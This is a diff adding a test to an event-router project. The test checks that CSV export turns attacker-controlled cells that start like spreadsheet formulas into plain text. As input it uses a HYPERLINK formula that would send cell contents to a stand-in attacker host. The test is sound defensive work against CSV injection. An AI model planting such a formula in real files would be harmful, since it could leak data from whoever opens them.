@@ -212,6 +212,25 @@ describe('query API (memory store)', () => {
   });
 });
 
+describe('CSV export of attacker-controlled text', () => {
+  it('makes a cell that starts like a spreadsheet formula plain text', async () => {
+    const { router, base } = await boot({ STORE_TTL: '0' });
+    try {
+      await ingest(base, [
+        falcoJson(1, { output: '=HYPERLINK("http://evil.example/?"&A1,"open")' }),
+        falcoJson(2, { output: '-2+3 @x' }),
+      ]);
+      const res = await fetch(`${base}/api/v1/events/export?format=csv`);
+      const rows = (await res.text()).trimEnd().split('\r\n');
+      expect(rows).toHaveLength(3);
+      expect(rows.join('\n')).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",`);
+      expect(rows.join('\n')).toContain(`,'-2+3 @x,`);
+    } finally {
+      await router.close();
+    }
+  });
+});
+
 describe('remediation reports with a shared secret', () => {
   let router: RouterApp;
   let base: string;
